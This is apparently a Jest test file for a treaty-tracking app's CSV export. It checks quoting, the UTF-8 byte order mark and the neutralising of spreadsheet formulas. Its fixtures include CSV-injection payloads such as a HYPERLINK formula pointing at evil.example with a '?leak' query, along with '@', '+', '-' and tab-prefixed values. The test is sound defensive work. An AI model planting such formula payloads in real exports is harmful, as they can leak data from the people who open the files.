import { describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import type { DevelopmentRecord } from '../feeds/development-records';
import { csvLines, csvRow, defuseFormula, UTF8_BOM, VERBATIM, type CsvColumns } from './csv';
import { DEVELOPMENT_COLUMNS, TREATY_COLUMNS } from './export-columns';

/** What a reader of the CSV gets back: the first data row, by column name. */
const firstRow = <T>(columns: CsvColumns<T>, record: T): Record<string, string> =>
  parse<Record<string, string>>([...csvLines(columns, [record])].join(''), { columns: true, bom: true })[0]!;

describe('CSV writer', () => {
  it('separates by semicolons or tabs when asked, quoting a field that holds the delimiter instead of commas', () => {
    expect(csvRow(['a,b', 'c;d', 'e\tf', 1.5], ';')).toBe('a,b;"c;d";e\tf;1.5\r\n');
    expect(csvRow(['a,b', 'c;d', 'e\tf'], '\t')).toBe('a,b\tc;d\t"e\tf"\r\n');
    const columns: CsvColumns<{ a: string; b: string }> = [
      ['a', (record) => record.a],
      ['b', (record) => record.b],
    ];
    const written = [...csvLines(columns, [{ a: 'x;y', b: '=1' }], ';')].join('');
    expect(parse(written, { delimiter: ';', columns: true, bom: true })).toEqual([{ a: 'x;y', b: "'=1" }]);
  });

  it('quotes commas, quotes and line breaks (RFC 4180) and ends every record with CRLF', () => {
    expect(csvRow(['a,b', 'say "no"', 'two\nlines', 'cr\ronly', 7, true, null, undefined])).toBe(
      '"a,b","say ""no""","two\nlines","cr\ronly",7,true,,\r\n',
    );
  });

  it.each([
    '=HYPERLINK("https://evil.example","click")',
    '+7 495',
    '-1',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    ' =1+1',
    '\u00a0 @SUM(A1)',
    '\n=1+1',
  ])('defuses text a spreadsheet would run as a formula: %j', (text) => {
    expect(defuseFormula(text)).toBe(`'${text}`);
  });

  it('marks text that starts with an apostrophe too, so that removing one apostrophe always restores the text', () => {
    expect(defuseFormula("'Tis done")).toBe("''Tis done");
    for (const text of ["'Tis done", '=1+1', 'Moscow', 'a = b', '']) {
      const written = defuseFormula(text) as string;
      expect(written.startsWith("'") ? written.slice(1) : written).toBe(text);
    }
  });

  it('leaves other text, numbers and booleans as they are', () => {
    expect(defuseFormula('State Duma')).toBe('State Duma');
    expect(defuseFormula('Договор = партнёрство')).toBe('Договор = партнёрство');
    expect(defuseFormula(-1)).toBe(-1);
    expect(defuseFormula(false)).toBe(false);
    expect(defuseFormula(null)).toBeNull();
  });

  it('starts with the UTF-8 byte order mark, which Excel needs to read Cyrillic and Persian as UTF-8', () => {
    const columns: CsvColumns<{ title: string }> = [['title', (record) => record.title]];
    const bytes = Buffer.from([...csvLines(columns, [{ title: 'Договор между Россией и ایران' }])].join(''));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.subarray(3).toString('utf8')).toBe('title\r\nДоговор между Россией и ایران\r\n');
    expect(UTF8_BOM).toBe('\ufeff');
  });

  it('defuses every column but those declared verbatim', () => {
    const columns: CsvColumns<{ a: string; b: string }> = [
      ['free', (record) => record.a],
      ['generated', (record) => record.b, VERBATIM],
    ];
    expect([...csvLines(columns, [{ a: '=1+1', b: '-1' }])].join('')).toBe(`${UTF8_BOM}free,generated\r\n'=1+1,-1\r\n`);
  });
});

const formula = '=HYPERLINK("https://evil.example/?leak","Read more")';
const signedRecord: DevelopmentRecord = {
  treatyId: 'ru-ir',
  treatyTitle: formula,
  treatyParties: ['RU', 'IR'],
  developmentId: '0193a2b4-0000-7000-8000-000000000001',
  type: 'signed',
  occurredOn: '2025-01',
  precision: 'month',
  party: 'RU',
  body: '+State Duma',
  place: '-Moscow',
  signatories: ['@Putin', 'Pezeshkian'],
  votes: { for: 400, against: 0 },
  sources: [
    {
      publisher: '=Evil Times',
      publishedOn: '2025-01-17',
      document: '\tdoc',
      quote: formula,
      kind: 'original',
      recordedAt: '2025-01-17T10:00:00.000Z',
      position: '1',
    },
  ],
  recordedAt: '2025-01-17T10:00:00.000Z',
  updatedAt: '2025-01-17T10:00:00.000Z',
  position: '5',
  corrections: [],
  retraction: null,
};

describe('the downloads’ columns', () => {
  it('treaties.csv defuses the title, an editor’s text, and nothing the product writes', () => {
    const row = firstRow(TREATY_COLUMNS, {
      id: 'ru-ir',
      title: formula,
      category: 'partnership',
      parties: ['RU', 'IR'],
      status: 'signed',
      signedOn: '2025-01-17',
      signedOnPrecision: 'day',
      revision: '3',
      position: '12',
    });
    expect(row).toMatchObject({ id: 'ru-ir', title: `'${formula}`, parties: 'RU IR', signedOn: '2025-01-17' });
  });

  it('developments.csv gives each signatory a line of the cell: their names hold spaces', () => {
    const record = { ...signedRecord, signatories: ['Vladimir Putin', 'Masoud Pezeshkian'] };
    expect(firstRow(DEVELOPMENT_COLUMNS, record).signatories!.split('\n')).toEqual([
      'Vladimir Putin',
      'Masoud Pezeshkian',
    ]);
  });

  it('developments.csv defuses every editor’s text: body, place, signatories, and the source', () => {
    expect(firstRow(DEVELOPMENT_COLUMNS, signedRecord)).toMatchObject({
      treatyId: 'ru-ir',
      occurredOn: '2025-01',
      party: 'RU',
      body: "'+State Duma",
      place: "'-Moscow",
      signatories: "'@Putin\nPezeshkian",
      votesFor: '400',
      votesAgainst: '0',
      sourcePublisher: "'=Evil Times",
      sourcePublishedOn: '2025-01-17',
      sourceDocument: "'\tdoc",
      sourceQuote: `'${formula}`,
      position: '5',
    });
  });

  it('developments.csv gives treaty law’s and diplomacy’s fields their columns, the editor’s words defused', () => {
    const statement: DevelopmentRecord = {
      ...signedRecord,
      type: 'statement',
      party: undefined,
      body: undefined,
      place: undefined,
      signatories: undefined,
      votes: undefined,
      speaker: '=Maria Zakharova',
      quote: formula,
      treaties: ['ru-ir-2001-treaty', 'eaeu-ir-fta'],
      parties: ['IR'],
    };
    expect(firstRow(DEVELOPMENT_COLUMNS, statement)).toMatchObject({
      type: 'statement',
      speaker: "'=Maria Zakharova",
      quote: `'${formula}`,
      treatiesNamed: 'ru-ir-2001-treaty eaeu-ir-fta',
      partiesNamed: 'IR',
      effectiveOn: '',
      consentType: '',
    });
    const notice = { ...signedRecord, type: 'withdrawal-notified', effectiveOn: '2026-03-04', text: undefined };
    expect(firstRow(DEVELOPMENT_COLUMNS, notice)).toMatchObject({ effectiveOn: '2026-03-04', speaker: '' });
    const objection = { ...signedRecord, type: 'objection', againstParty: 'FR', text: '-incompatible' };
    expect(firstRow(DEVELOPMENT_COLUMNS, objection)).toMatchObject({ againstParty: 'FR', text: "'-incompatible" });
  });
});
